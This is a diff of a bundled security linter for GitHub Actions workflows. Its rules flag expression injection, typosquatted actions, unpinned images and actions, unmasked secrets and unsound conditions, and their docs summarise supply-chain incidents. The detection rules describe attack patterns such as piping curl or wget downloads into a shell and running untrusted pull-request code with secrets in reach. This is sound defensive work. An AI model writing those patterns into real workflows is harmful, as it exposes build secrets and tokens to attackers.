+          message: `\`${leaf.path}\` is expanded into ${sink.label}: ${verdict2.reason}. Pass it through \`env:\` instead`,
+          severity: verdict2.severity,
+          confidence: verdict2.confidence,
+          persona: verdict2.persona,
+          fixes
+        });
+      }
+    }
+  }
+};
+function envNameFor(path) {
+  const trimmed = path.replace(/^github\.event\./i, "").replace(/^github\./i, "");
+  const name = trimmed.replace(/\*/g, "ALL").replace(/[^A-Za-z0-9]+/g, "_").replace(/^_+|_+$/g, "").toUpperCase();
+  return /^[A-Z_]/.test(name) ? name : `V_${name}`;
+}
+function quoteState(line) {
+  let state = "none";
+  for (let i = 0; i < line.length; i++) {
+    const c = line[i];
+    if (c === "\\" && state !== "single") {
+      i++;
+      continue;
+    }
+    if (state === "none") {
+      if (c === "'") state = "single";
+      else if (c === '"') state = "double";
+      else if (c === "`") state = "backtick";
+    } else if (state === "single" && c === "'" || state === "double" && c === '"' || state === "backtick" && c === "`") {
+      state = "none";
+    }
+  }
+  return state;
+}
+function moveToEnv(file, site, sink, language, step, path) {
+  if (!path) return null;
+  const text = file.text;
+  const occurrence = site.occurrence;
+  const scalarType = site.scalar.type;
+  if (scalarType !== "BLOCK_LITERAL" && scalarType !== "PLAIN" && scalarType !== "QUOTE_SINGLE") return null;
+  if (asMap(step.node)?.flow) return null;
+  if (sink.kind === "input" && scalarType === "PLAIN" && asMap(step.get("with")?.value)?.flow) return null;
+  const scalarRange = site.scalar.range;
+  if (!scalarRange) return null;
+  const expressionText = envValueExpression(text.slice(occurrence.start, occurrence.end));
+  if (!expressionText) return null;
+  const key = normalizeContextPath(path);
+  const runnerVar = RUNNER_ENV[key] ?? null;
+  const name = runnerVar ?? uniqueName(step, envNameFor(path), expressionText);
+  if (!name) return null;
+  const lineStart = file.lines.lineStarts[file.lines.lineAt(occurrence.start)];
+  const scalarStart = scalarRange[0] + (scalarType === "QUOTE_SINGLE" ? 1 : 0);
+  const before = text.slice(Math.max(lineStart, scalarStart), occurrence.start);
+  const state = quoteState(before.replace(/^\s*run:\s*/, ""));
+  let replacement = null;
+  let span = { start: occurrence.start, end: occurrence.end };
+  switch (language) {
+    case "bash": {
+      const script = scalarText(site.scalar) ?? "";
+      const inQuotedHeredoc = parseShell(script).commands.some((command) => command.heredocs.some((h) => h.quoted && h.body.includes(occurrence.text)));
+      if (inQuotedHeredoc) return null;
+      const inHeredoc = parseShell(script).commands.some((command) => command.heredocs.some((h) => h.body.includes(`\${{${occurrence.text}}}`)));
+      if (scalarType === "QUOTE_SINGLE" && state !== "none") return null;
+      replacement = inHeredoc || state === "double" ? `\${${name}}` : state === "single" ? `'"\${${name}}"'` : `"\${${name}}"`;
+      break;
+    }
+    case "pwsh":
+      if (state === "single") return null;
+      replacement = `$env:${name}`;
+      break;
+    case "cmd":
+      replacement = `%${name}%`;
+      break;
+    case "javascript": {
+      const open = text[occurrence.start - 1];
+      const close = text[occurrence.end];
+      if ((open === "'" || open === '"' || open === "`") && open === close && state !== "none") {
+        replacement = `process.env.${name}`;
+        span = { start: occurrence.start - 1, end: occurrence.end + 1 };
+      } else if (state === "backtick") replacement = `\${process.env.${name}}`;
+      else if (state === "single" || state === "double") {
+        const q = state === "single" ? "'" : '"';
+        replacement = `${q} + process.env.${name} + ${q}`;
+      } else replacement = `process.env.${name}`;
+      break;
+    }
+    default:
+      return null;
+  }
+  if (scalarType === "QUOTE_SINGLE" && replacement.includes("'")) return null;
+  let edit = { span, newText: replacement };
+  if (scalarType === "PLAIN") {
+    const [start, end] = scalarRange;
+    const rewritten = text.slice(start, span.start) + replacement + text.slice(span.end, end);
+    if (!plainScalarReadsAsWritten(rewritten)) edit = { span: { start, end }, newText: `'${rewritten.replace(/'/g, "''")}'` };
+  }
+  const edits = [edit];
+  if (!runnerVar && !hasEnvEntry(step, name)) {
+    const insert = envInsertion(file, step, name, expressionText);
+    if (!insert) return null;
+    edits.push(insert);
+  }
+  const stepRange = step.node?.range;
+  if (!stepRange || !editsKeepYamlValid(text, { start: stepRange[0], end: stepRange[1] }, edits)) return null;
+  return {
+    title: runnerVar ? `Use the runner's \`${runnerVar}\` variable instead of expanding \`${path}\`` : `Move \`${path}\` into \`env: ${name}\``,
+    isPreferred: sink.kind === "run",
+    safety: "unsafe",
+    edits
+  };
+}
+function envValueExpression(source) {
+  if (!/[\r\n]/.test(source)) return source;
+  if (/['"]/.test(source)) return null;
+  return source.replace(/\s+/g, " ");
+}
+function plainScalarReadsAsWritten(source) {
+  if (/^[-?:,[\]{}#&*!|>'"%@`]/.test(source)) return false;
+  return !/:(\s|$)|\s#/.test(source);
+}
+function hasEnvEntry(step, name) {
+  return step.env.entries.some((entry) => entry.key === name);
+}
+function uniqueName(step, base2, expressionText) {
+  const entries = step.env.entries;
+  for (let i = 1; i < 50; i++) {
+    const name = i === 1 ? base2 : `${base2}_${i}`;
+    const existing = entries.find((entry) => entry.key === name);
+    if (!existing) return name;
+    if ((scalarText(existing.value) ?? "").trim() === expressionText) return name;
+  }
+  return null;
+}
+function envInsertion(file, step, name, expressionText) {
+  const lines = file.lines;
+  const eol = lines.eol;
+  const value = expressionText.includes("'") || expressionText.includes("#") ? `"${expressionText.replace(/\\/g, "\\\\").replace(/"/g, '\\"')}"` : expressionText;
+  const lineAfter = (offset) => {
+    const line = lines.lineAt(Math.max(0, offset - 1));
+    return line + 1 < lines.lineCount ? lines.lineStarts[line + 1] : null;
+  };
+  const envEntry = step.get("env");
+  if (envEntry) {
+    const map2 = asMap(envEntry.value);
+    if (!map2 || map2.flow || step.env.entries.length === 0) return null;
+    if (isAlias(envEntry.pair.value) || map2.anchor) return null;
+    const entries2 = step.env.entries;
+    const first2 = entries2[0];
+    const last2 = entries2[entries2.length - 1];
+    const column2 = first2.keySpan.start - lines.lineStarts[lines.lineAt(first2.keySpan.start)];
+    const at2 = lineAfter(Math.max(last2.valueSpan.end, last2.keySpan.end));
+    const textLine = `${" ".repeat(column2)}${name}: ${value}`;
+    if (at2 === null) return { span: { start: file.text.length, end: file.text.length }, newText: `${file.text.endsWith("\n") ? "" : eol}${textLine}${eol}` };
+    return { span: { start: at2, end: at2 }, newText: `${textLine}${eol}` };
+  }
+  const entries = step.entries;
+  if (entries.length === 0) return null;
+  const first = entries[0];
+  const last = entries.reduce((a, b) => Math.max(b.valueSpan.end, b.keySpan.end) > Math.max(a.valueSpan.end, a.keySpan.end) ? b : a);
+  const column = first.keySpan.start - lines.lineStarts[lines.lineAt(first.keySpan.start)];
+  const pad = " ".repeat(column);
+  const block = `${pad}env:${eol}${pad}  ${name}: ${value}${eol}`;
+  const at = lineAfter(Math.max(last.valueSpan.end, last.keySpan.end));
+  if (at === null) return { span: { start: file.text.length, end: file.text.length }, newText: `${file.text.endsWith("\n") ? "" : eol}${block}` };
+  return { span: { start: at, end: at }, newText: block };
+}
+
+// server/src/knowledge/popular-actions.ts
+var POPULAR_ACTIONS = [
+  "actions/checkout",
+  "actions/cache",
+  "actions/upload-artifact",
+  "actions/download-artifact",
+  "actions/setup-python",
+  "actions/setup-node",
+  "actions/setup-go",
+  "actions/setup-java",
+  "actions/setup-dotnet",
+  "actions/github-script",
+  "actions/create-github-app-token",
+  "actions/attest-build-provenance",
+  "actions/labeler",
+  "actions/stale",
+  "actions/deploy-pages",
+  "actions/upload-pages-artifact",
+  "actions/configure-pages",
+  "actions/dependency-review-action",
+  "github/codeql-action",
+  "docker/setup-buildx-action",
+  "docker/setup-qemu-action",
+  "docker/login-action",
+  "docker/build-push-action",
+  "docker/metadata-action",
+  "astral-sh/setup-uv",
+  "swatinem/rust-cache",
+  "dtolnay/rust-toolchain",
+  "taiki-e/install-action",
+  "pnpm/action-setup",
+  "pypa/gh-action-pypi-publish",
+  "softprops/action-gh-release",
+  "peter-evans/create-pull-request",
+  "peter-evans/create-or-update-comment",
+  "dorny/paths-filter",
+  "tj-actions/changed-files",
+  "codecov/codecov-action",
+  "golangci/golangci-lint-action",
+  "goreleaser/goreleaser-action",
+  "google-github-actions/auth",
+  "google-github-actions/setup-gcloud",
+  "aws-actions/configure-aws-credentials",
+  "azure/login",
+  "hashicorp/setup-terraform",
+  "ossf/scorecard-action",
+  "sigstore/cosign-installer",
+  "ruby/setup-ruby",
+  "subosito/flutter-action",
+  "gradle/actions",
+  "jdx/mise-action",
+  "pre-commit/action",
+  "aquasecurity/trivy-action",
+  "slackapi/slack-github-action",
+  "cachix/install-nix-action",
+  "denoland/setup-deno",
+  "oven-sh/setup-bun",
+  "pyo3/maturin-action",
+  "zizmorcore/zizmor-action",
+  "step-security/harden-runner",
+  "JamesIves/github-pages-deploy-action".toLowerCase(),
+  "peaceiris/actions-gh-pages",
+  "mikefarah/yq",
+  "crazy-max/ghaction-import-gpg"
+];
+
+// server/src/rules/support/edit-distance.ts
+function editDistance(a, b, limit = 2) {
+  if (Math.abs(a.length - b.length) > limit) return limit + 1;
+  let previous = Array.from({ length: b.length + 1 }, (_, i) => i);
+  for (let i = 1; i <= a.length; i++) {
+    const current = [i];
+    let best = i;
+    for (let j = 1; j <= b.length; j++) {
+      const cost = a[i - 1] === b[j - 1] ? 0 : 1;
+      current[j] = Math.min(previous[j] + 1, current[j - 1] + 1, previous[j - 1] + cost);
+      best = Math.min(best, current[j]);
+    }
+    if (best > limit) return limit + 1;
+    previous = current;
+  }
+  return previous[b.length];
+}
+
+// server/src/rules/typosquat-uses.ts
+var POPULAR = new Set(POPULAR_ACTIONS);
+var targets = /* @__PURE__ */ new Map();
+function typosquatTarget(repository) {
+  let target = targets.get(repository);
+  if (target === void 0) {
+    if (targets.size >= 1e4) targets.clear();
+    target = computeTyposquatTarget(repository);
+    targets.set(repository, target);
+  }
+  return target;
+}
+function computeTyposquatTarget(repository) {
+  const lower2 = repository.toLowerCase();
+  if (POPULAR.has(lower2)) return null;
+  const owner = lower2.split("/")[0];
+  for (const popular of POPULAR_ACTIONS) {
+    if (popular.split("/")[0] === owner) continue;
+    if (editDistance(lower2, popular, 1) <= 1) return popular;
+  }
+  return null;
+}
+var typosquatUses = {
+  id: "typosquat-uses",
+  title: "Action name one typo away from a popular action",
+  kinds: ["workflow", "action"],
+  severity: "high",
+  confidence: "low",
+  persona: "regular",
+  online: false,
+  docs: {
+    summary: "A `uses:` names a repository that differs by one character from a widely used action but belongs to another owner.",
+    why: "Typosquatting is an old package-registry attack that works on actions too: researchers registered owners such as `actons` and `actlons` and found workflows running their code. A one-letter slip in `uses:` hands the job, its token and its secrets to a stranger.",
+    fix: "Check the spelling against the action's Marketplace page and correct the owner or repository name. If the similar name is intended, suppress with `# warden: ignore[typosquat-uses]`."
+  },
+  check({ file, report }) {
+    for (const site of file.uses) {
+      const reference = site.reference;
+      if (reference.kind !== "remote") continue;
+      const target = typosquatTarget(reference.repository);
+      if (!target) continue;
+      const span = site.exact ? { start: site.valueStart, end: site.valueStart + reference.owner.length + 1 + reference.repo.length } : site.entry.valueSpan;
+      report({ span, message: `\`${reference.repository}\` is one character away from the popular action \`${target}\` but belongs to another owner: check that this is not a typo` });
+    }
+  }
+};
+
+// server/src/rules/undocumented-permissions.ts
+var undocumentedPermissions = {
+  id: "undocumented-permissions",
+  title: "Job permission without a comment saying why",
+  kinds: ["workflow"],
+  severity: "low",
+  confidence: "high",
+  persona: "pedantic",
+  online: false,
+  docs: {
+    summary: "A scope granted in a job-level `permissions:` block has no comment explaining which step needs it (`contents: read` is exempt).",
+    why: "A write scope nobody can explain is never removed: when the step that needed `pull-requests: write` goes away, the grant stays, and the next compromised action in that job inherits it. Astral and zizmor document every grant next to it.",
+    fix: "Add a short comment naming the step or command that needs the scope, e.g. `pull-requests: write  # gh pr comment`. The quick fix inserts the reason the inference found."
+  },
+  check(context) {
+    const workflow = context.file.workflow;
+    if (!workflow) return;
+    const text = context.file.text;
+    const lines = context.file.lines;
+    for (const job of workflow.jobs) {
+      const block = job.permissions;
+      if (!block || !block.value || !isMap(block.value)) continue;
+      let inferred = null;
+      for (const scope of new MapView(asMap(block.value), context.file.doc).entries) {
+        const level = scalarText(scope.value);
+        if (level === "none" || scope.key === "contents" && level === "read") continue;
+        const line = lines.lineAt(scope.keySpan.start);
+        const end = lines.lineContentEnd(lines.lineAt(scope.valueSpan.end));
+        const rest = text.slice(scope.valueSpan.end, end);
+        const above = line > 0 ? lines.lineText(line - 1).trim() : "";
+        if (/(^|\s)#/.test(rest) || above.startsWith("#")) continue;
+        inferred ??= inferJobPermissions(workflow, job);
+        const found = inferred.scopes.find((s) => s.scope === scope.key);
+        const whats = found ? [...new Set(found.uses.map((use) => use.what))].slice(0, 3) : [];
+        const fixes = whats.length > 0 && /^[ \t]*$/.test(rest) ? [{ title: `Add comment \`# ${whats.join("; ")}\``, isPreferred: true, safety: "safe", edits: [{ span: { start: scope.valueSpan.end, end: scope.valueSpan.end }, newText: `  # ${whats.join("; ")}` }] }] : [];
+        context.report({
+          span: scope.keySpan,
+          message: `\`${scope.key}: ${level ?? "?"}\` in job \`${job.id}\` has no comment saying why${whats.length > 0 ? ` (it appears to be used by ${whats.map((w2) => `\`${w2}\``).join(", ")})` : ""}`,
+          fixes
+        });
+      }
+    }
+  }
+};
+
+// server/src/rules/unpinned-images.ts
+var DIGEST_RE = /^sha256:[0-9a-f]{64}$/i;
+function matrixValues(job, key) {
+  if (!job) return null;
+  const matrixEntry = job.strategy.get("matrix");
+  const matrix = asMap(matrixEntry?.value ?? null);
+  if (!matrix) return null;
+  const values = [];
+  let found = false;
+  for (const entry of mapEntries(matrix, job.doc)) {
+    if (entry.key === key) {
+      const seq2 = asSeq(entry.value);
+      if (!seq2) return null;
+      for (const item of seqItems(seq2, job.doc)) {
+        const text = scalarText(item);
+        if (text === null) return null;
+        values.push(text);
+      }
+      found = true;
+    } else if (entry.key === "include") {
+      for (const item of seqItems(asSeq(entry.value), job.doc)) {
+        for (const row of mapEntries(asMap(item), job.doc)) {
+          if (row.key !== key) continue;
+          const text = scalarText(row.value);
+          if (text === null) return null;
+          values.push(text);
+          found = true;
+        }
+      }
+    }
+  }
+  return found ? values : null;
+}
+function expansions(value, job) {
+  const occurrences = findExpressions(value);
+  if (occurrences.length === 0) return [value];
+  let results = [""];
+  let cursor = 0;
+  for (const occurrence of occurrences) {
+    const literal = value.slice(cursor, occurrence.start);
+    const ast = occurrence.parsed.ast;
+    if (!occurrence.terminated || !ast) return null;
+    const leaves = valueLeaves(ast);
+    const options = [];
+    for (const leaf of leaves) {
+      if (leaf.type === "literal") {
+        options.push(leaf.value === null ? "" : String(leaf.value));
+        continue;
+      }
+      const segments = contextPathSegments(leaf);
+      if (!segments || segments[0] !== "matrix" || segments.length !== 2) return null;
+      const values = matrixValues(job, segments[1]);
+      if (!values) return null;
+      options.push(...values);
+    }
+    if (options.length === 0) return null;
+    const next = [];
+    for (const prefix of results) for (const option of options) next.push(prefix + literal + option);
+    if (next.length > 256) return null;
+    results = next;
+    cursor = occurrence.end;
+  }
+  return results.map((prefix) => prefix + value.slice(cursor));
+}
+function checkImage(ctx, where, value, span, job) {
+  if (value.trim() === "") return;
+  const candidates = expansions(value, job);
+  if (candidates === null) {
+    ctx.report({
+      span,
+      message: `${where} image \`${value}\` is computed from an expression, so it cannot be checked for a digest pin`,
+      confidence: "low"
+    });
+    return;
+  }
+  const seen = /* @__PURE__ */ new Set();
+  for (const candidate of candidates) {
+    if (seen.has(candidate) || candidate.trim() === "") continue;
+    seen.add(candidate);
+    const image = parseImage(candidate);
+    if (image.digest && DIGEST_RE.test(image.digest)) continue;
+    const shown = candidate === value ? `\`${value}\`` : `\`${candidate}\` (from \`${value}\`)`;
+    if (image.tag === null || image.tag === "latest") {
+      ctx.report({
+        span,
+        message: `${where} image ${shown} ${image.tag === null ? "has no tag, so it means `:latest`" : "uses `:latest`"}, which changes whenever the image is pushed: pin it by digest (\`${image.name}@sha256:…\`)`
+      });
+    } else {
+      ctx.report({
+        span,
+        message: `${where} image ${shown} is pinned to tag \`${image.tag}\`, which can be re-pushed: pin it by digest (\`${image.name}:${image.tag}@sha256:…\`)`,
+        persona: "pedantic"
+      });
+    }
+  }
+}
+function checkContainer(ctx, where, node, view, job) {
+  const direct = spannedString(node);
+  if (direct) {
+    checkImage(ctx, where, direct.value, direct.span, job);
+    return;
+  }
+  const map2 = asMap(node);
+  if (!map2) return;
+  const image = new MapView(map2, view.doc).string("image");
+  if (image) checkImage(ctx, where, image.value, image.span, job);
+}
+var unpinnedImages = {
+  id: "unpinned-images",
+  title: "Container image not pinned by digest",
+  kinds: ["workflow", "action"],
+  severity: "high",
+  confidence: "high",
+  persona: "regular",
+  online: false,
+  docs: {
+    summary: "A job container, service container, `docker://` step or Docker action names its image by tag (or no tag at all), so whoever can push to that tag decides what runs.",
+    why: "In the 2026 Trivy compromise (CVE-2026-33634) the attacker published a malicious `trivy` 0.69.4 to GitHub Releases, GHCR and Docker Hub under the normal tags; anyone pulling by tag got the credential stealer. Only a `@sha256:` digest names fixed content.",
+    fix: "Append the digest: `image: node:22@sha256:<64 hex>` (keep the tag for readers). `docker buildx imagetools inspect <image>` prints it; Dependabot and Renovate update digests."
+  },
+  check(ctx) {
+    const file = ctx.file;
+    if (file.workflow) {
+      for (const job of file.workflow.jobs) {
+        const container = job.container;
+        if (container) checkContainer(ctx, `Job \`${job.id}\` container`, container.value, job, job);
+        for (const service of job.services.entries) {
+          checkContainer(ctx, `Service \`${service.key}\` of job \`${job.id}\``, service.value, job, job);
+        }
+      }
+    }
+    if (file.action) {
+      const image = spannedString(file.action.image?.value ?? null);
+      if (image && image.value.startsWith("docker://")) {
+        checkImage(ctx, "Docker action", image.value.slice("docker://".length), image.span, null);
+      }
+    }
+    for (const site of file.uses) {
+      if (site.reference.kind !== "docker") continue;
+      const span = site.exact ? { start: site.valueStart, end: site.valueStart + site.value.length } : site.entry.valueSpan;
+      checkImage(ctx, `Step \`${site.step?.label ?? "uses"}\``, site.value.trim().slice("docker://".length), span, site.job);
+    }
+  }
+};
+
 // server/src/rules/unpinned-tools.ts
 var TOOL_ACTIONS = {
   "aquasecurity/setup-trivy": { input: "version", tool: "trivy", absentIsLatest: true },
@@ -16154,6 +16010,7 @@ var unpinnedTools = {
   severity: "medium",
   confidence: "high",
   persona: "regular",
+  online: false,
   docs: {
     summary: "A SHA-pinned action still downloads a tool at run time; with its version input absent or `latest`, each run executes whatever was released last.",
     why: "In Trivy #2 (2026, CVE-2026-33634) the release channel of trivy was taken over: workflows that had pinned `aquasecurity/setup-trivy` or `trivy-action` to a commit still downloaded the malicious trivy 0.69.4, because the action defaulted to the latest release. `reviewdog/action-setup` (CVE-2025-30154) had the same `reviewdog_version: latest` default.",
@@ -16182,6 +16039,249 @@ var unpinnedTools = {
   }
 };
 
+// server/src/config/pin-policy.ts
+function pinPolicyFor(config, reference) {
+  const policies = config.policies;
+  if (!policies || typeof policies !== "object" || Array.isArray(policies)) return "hash-pin";
+  const table = policies;
+  const owner = reference.owner.toLowerCase();
+  const repo = reference.repo.toLowerCase();
+  const candidates = [
+    ...reference.subpath ? [`${owner}/${repo}/${reference.subpath.toLowerCase()}`] : [],
+    `${owner}/${repo}`,
+    `${owner}/*`,
+    "*"
+  ];
+  const lowered = new Map(Object.entries(table).map(([pattern, policy]) => [pattern.toLowerCase(), policy]));
+  for (const candidate of candidates) {
+    const policy = lowered.get(candidate);
+    if (policy === "any" || policy === "ref-pin" || policy === "hash-pin") return policy;
+  }
+  return "hash-pin";
+}
+function pinAllowed(config, reference) {
+  const policy = pinPolicyFor(config, reference);
+  if (policy === "any") return true;
+  if (policy === "ref-pin") return reference.ref !== null && reference.ref !== "" && reference.refKind !== "expression";
+  return false;
+}
+
+// server/src/rules/unpinned-uses.ts
+var unpinnedUses = {
+  id: "unpinned-uses",
+  title: "Action or reusable workflow not pinned to a commit SHA",
+  kinds: ["workflow", "action"],
+  severity: "high",
+  confidence: "high",
+  persona: "regular",
+  online: false,
+  reads: ["online"],
+  docs: {
+    summary: "A remote `uses:` names a tag or branch, which its owner (or an attacker who takes over the repository) can move to other code at any time.",
+    why: "In March 2025 every tag of `tj-actions/changed-files` (CVE-2025-30066) was moved to a commit that dumped the runner's memory into the build log, exposing the secrets of thousands of repositories; it came in through `reviewdog/action-setup@v1`, whose tag had been moved too (CVE-2025-30154). In 2026 the tags of `aquasecurity/trivy-action` were force-pushed the same way. Only a full commit SHA is immutable.",
+    fix: "Pin to the full 40-character commit SHA and keep the version in a comment, e.g. `uses: actions/checkout@<sha> # v4.2.2`, so updaters such as Dependabot and Renovate keep it current."
+  },
+  check({ file, config, online, report }) {
+    const snapshot = valueOf(online);
+    for (const site of file.uses) {
+      const reference = site.reference;
+      if (reference.kind !== "remote") continue;
+      const target = usesTarget(reference);
+      const what = reference.isReusableWorkflow ? "reusable workflow" : "action";
+      if (reference.refKind === "sha") continue;
+      if (pinAllowed(config, reference)) continue;
+      const plan = snapshot && reference.refKind !== "expression" ? planPin(file, site, snapshot) : null;
+      const fixes = plan?.ok ? [plan.fix] : [];
+      const span = refOrValueSpan(site, reference);
+      if (reference.ref === null || reference.ref === "") {
+        report({
+          span: site.exact ? { start: site.valueStart, end: site.valueStart + site.value.length } : site.entry.valueSpan,
+          message: `\`${target}\` has no ref: name a full commit SHA, e.g. \`${target}@<40-hex sha> # vX.Y.Z\``
+        });
+        continue;
+      }
+      switch (reference.refKind) {
+        case "short-sha":
+          report({
+            span,
+            message: `\`${target}@${reference.ref}\` uses an abbreviated SHA, which is not a pin: an attacker can push a colliding commit. Use the full 40-character SHA`,
+            fixes
+          });
+          break;
+        case "expression":
+          report({ span, message: `${what} \`${target}\` takes its ref from an expression, which cannot be pinned`, confidence: "medium" });
+          break;
+        case "branch-like":
+          report({
+            span,
+            message: `${what} \`${target}\` is pinned to \`${reference.ref}\`, a branch or tag that can move to other code: pin it to a full commit SHA`,
+            fixes
+          });
+          break;
+        default:
+          report({
+            span,
+            message: `${what} \`${target}\` is pinned to tag \`${reference.ref}\`, which can be moved to other code: pin it to a full commit SHA`,
+            fixes
+          });
+      }
+    }
+  }
+};
+
+// server/src/rules/unredacted-secrets.ts
+var unredactedSecrets = {
+  id: "unredacted-secrets",
+  title: "Secret parsed with fromJSON escapes log masking",
+  kinds: ["workflow", "action"],
+  severity: "medium",
+  confidence: "high",
+  persona: "regular",
+  online: false,
+  docs: {
+    summary: "`fromJSON(secrets.X)` turns a secret into structured values whose parts the runner does not know as secrets, so they are not masked in logs.",
+    why: "The runner masks the exact text of each secret. A field taken out of a JSON secret (`fromJSON(secrets.CREDS).password`) is a different string, printed in clear by any `echo`, `set -x` or error message; public build logs then leak it.",
+    fix: "Store each value as its own secret, or register the parts with `::add-mask::` before anything can print them."
+  },
+  check({ file, report }) {
+    walkFencedExpressions(file, (node, span) => {
+      if (node.type !== "call" || functionKey(node) !== "fromjson" || node.args.length !== 1) return true;
+      const path = contextPath(node.args[0], { computedIndexAsWildcard: true });
+      if (path && path.startsWith("secrets.")) {
+        report({ span, message: `\`fromJSON(${path})\` yields values the runner does not mask in logs: store each value as its own secret` });
+      }
+      return true;
+    });
+  }
+};
+
+// server/src/rules/unsound-condition.ts
+function isSingleFence(text) {
+  const found = findExpressions(text);
+  return found.length === 1 && found[0].terminated && found[0].start === 0 && found[0].end === text.length;
+}
+var unsoundCondition = {
+  id: "unsound-condition",
+  title: "`if:` that is always true",
+  kinds: ["workflow", "action"],
+  severity: "high",
+  confidence: "high",
+  persona: "regular",
+  online: false,
+  docs: {
+    summary: "An `if:` whose value is more than one `${{ }}` (a block scalar's trailing newline, text around the fence, two fences) is a string, not an expression, and every non-empty string is true.",
+    why: "GitHub evaluates an `if:` as an expression only when the whole value is one `${{ }}`; otherwise it interpolates the fences into a string, which is truthy. `if: |` with a `${{ }}` inside therefore always runs the step: guards such as `github.event.pull_request.head.repo.fork == false` in front of secret-using or publishing steps silently stop guarding.",
+    fix: "Write the condition on one line without a fence (`if: a && b`), or use a stripping block header (`|-`, `>-`; the quick fix does that), or put all the text inside one `${{ }}`."
+  },
+  check({ file, report }) {
+    for (const { entry, owner } of conditions(file)) {
+      const scalar = asScalar(entry.value);
+      if (!scalar || typeof scalar.value !== "string") continue;
+      const value = scalar.value;
+      if (!value.includes("${{") || isSingleFence(value)) continue;
+      const fixes = [];
+      const block = scalar.type === "BLOCK_LITERAL" || scalar.type === "BLOCK_FOLDED";
+      if (block && isSingleFence(trimEndOf(value, "\n"))) {
+        const header = /^([|>])([1-9]?)([+-]?)([1-9]?)/.exec(file.text.slice(entry.valueSpan.start, entry.valueSpan.start + 4));
+        if (header) {
+          fixes.push({
+            title: `Strip the trailing newline (\`${header[1]}-\`)`,
+            isPreferred: true,
+            safety: "safe",
+            edits: [{ span: { start: entry.valueSpan.start, end: entry.valueSpan.start + header[0].length }, newText: `${header[1]}${header[2] || header[4]}-` }]
+          });
+        }
+      }
+      const reason = block && fixes.length > 0 ? "the block scalar keeps a trailing newline" : "it has text outside its `${{ }}`";
+      report({
+        span: entry.valueSpan,
+        message: `The \`if:\` of ${owner} is always true: ${reason}, so GitHub reads it as a non-empty string instead of evaluating the condition`,
+        fixes
+      });
+    }
+  }
+};
+
+// server/src/rules/unsound-contains.ts
+var CONTROLLABLE = [/^env\./, /^inputs\./, /^github\.(actor|base_ref|head_ref|ref|ref_name|sha|triggering_actor)$/];
+var unsoundContains = {
+  id: "unsound-contains",
+  title: "`contains()` with a literal string as the haystack",
+  kinds: ["workflow", "action"],
+  severity: "high",
+  confidence: "high",
+  persona: "regular",
+  online: false,
+  docs: {
+    summary: "`contains('refs/heads/main refs/heads/release', github.ref)` is a substring test, so any value that is a substring of the literal (`refs/heads/m`, `main`, an empty string) passes.",
+    why: "People write `contains('a b c', x)` meaning \"x is one of a, b, c\". A branch named `refs/heads/mai` or an input of `a` satisfies it, which turns branch or actor guards in front of deployments and secret use into formalities.",
+    fix: 'Use an array: `contains(fromJSON(\'["refs/heads/main", "refs/heads/release"]\'), github.ref)`, or explicit comparisons joined with `||`.'
+  },
+  check({ file, report }) {
+    for (const expression of evaluatedExpressions(file)) {
+      if (!/contains/i.test(expression.text)) continue;
+      const ast = expression.parsed.ast;
+      if (!ast || !expression.exact) continue;
+      walkExpression(ast, (node) => {
+        if (node.type !== "call" || node.name.toLowerCase() !== "contains" || node.args.length !== 2) return;
+        const [haystack, needle] = node.args;
+        if (haystack.type !== "literal" || haystack.kind !== "string") return;
+        const path = contextPath(needle, { caseInsensitive: true });
+        if (!path) return;
+        const controllable = CONTROLLABLE.some((pattern) => pattern.test(path));
+        report({
+          span: { start: node.start, end: node.end },
+          message: `\`contains('${String(haystack.value)}', ${path})\` tests whether \`${path}\` is a substring of the literal, not whether it is one of its words${controllable ? `; \`${path}\` can be chosen to pass` : ""}`,
+          severity: controllable ? "high" : "informational"
+        });
+      });
+    }
+  }
+};
+
+// server/src/rules/unsound-ternary.ts
+function unwrap2(node) {
+  while (node.type === "group") node = node.expr;
+  return node;
+}
+function isFalsyLiteral(node) {
+  const inner = unwrap2(node);
+  if (inner.type !== "literal") return false;
+  return inner.value === false || inner.value === null || inner.value === "" || inner.value === 0;
+}
+var unsoundTernary = {
+  id: "unsound-ternary",
+  title: "`cond && <falsy> || other` never yields the falsy value",
+  kinds: ["workflow", "action"],
+  severity: "low",
+  confidence: "high",
+  persona: "regular",
+  online: false,
+  docs: {
+    summary: "The `a && b || c` idiom returns `c` whenever `b` is falsy, so `cond && '' || 'x'` or `cond && false || true` always gives the right-hand side.",
+    why: "Expressions have no ternary operator before `case()`; the `&&`/`||` idiom is everywhere, and with a falsy middle value it silently inverts: `${{ github.event_name == 'push' && false || true }}` is always `true`, so a flag meant to be off for pushes (a dry run, `--no-publish`) is on.",
+    fix: "Swap the branches and negate the condition (`!cond && 'x' || ''`), or use `case(cond, '', 'x')`."
+  },
+  check({ file, report }) {
+    for (const expression of evaluatedExpressions(file)) {
+      if (!expression.text.includes("&&") || !expression.text.includes("||")) continue;
+      const ast = expression.parsed.ast;
+      if (!ast || !expression.exact) continue;
+      walkExpression(ast, (node) => {
+        if (node.type !== "binary" || node.op !== "||") return;
+        const left = unwrap2(node.left);
+        if (left.type !== "binary" || left.op !== "&&" || !isFalsyLiteral(left.right)) return;
+        const literal = unwrap2(left.right);
+        const shown = literal.type === "literal" ? literal.kind === "string" ? `''` : String(literal.value) : "?";
+        report({
+          span: { start: node.start, end: node.end },
+          message: `\`… && ${shown} || …\` never evaluates to ${shown}: when the condition holds, ${shown} is falsy and the \`||\` branch is taken instead`
+        });
+      });
+    }
+  }
+};
+
 // server/src/rules/untrusted-checkout.ts
 var TRIGGERS3 = ["pull_request_target", "workflow_run", "issue_comment"];
 var untrustedCheckout = {
@@ -16191,6 +16291,7 @@ var untrustedCheckout = {
   severity: "high",
   confidence: "high",
   persona: "regular",
+  online: false,
   docs: {
     summary: "A `pull_request_target`, `workflow_run` or `issue_comment` job checks out the pull request's head or merge commit and then runs something from it (a build tool, a script, a local action) while secrets or a write token are in reach.",
     why: 'This is the "pwn request". At spotbugs (2024) a `pull_request_target` workflow checked out `refs/pull/N/merge` and ran Maven with a maintainer PAT in the environment; the stolen PAT led to reviewdog and then to tj-actions/changed-files. PostHog (2025) ran a script from the pull request with a bot PAT that published to npm; Trivy (2026, hackerbot-claw) ran `uses: ./.github/actions/setup-go` from the checked-out pull request with an org PAT; the prt-scan wave (2026) opened mass pull requests against workflows that ran `npm install` on the head commit.',
@@ -16319,6 +16420,7 @@ var unverifiedDownload = {
   severity: "high",
   confidence: "medium",
   persona: "regular",
+  online: false,
   docs: {
     summary: "A `run:` step fetches a script or binary (curl, wget, Invoke-WebRequest, `gh release download`, `pip install <url>`) and pipes it to a shell, executes, extracts or installs it, with no checksum or signature verification.",
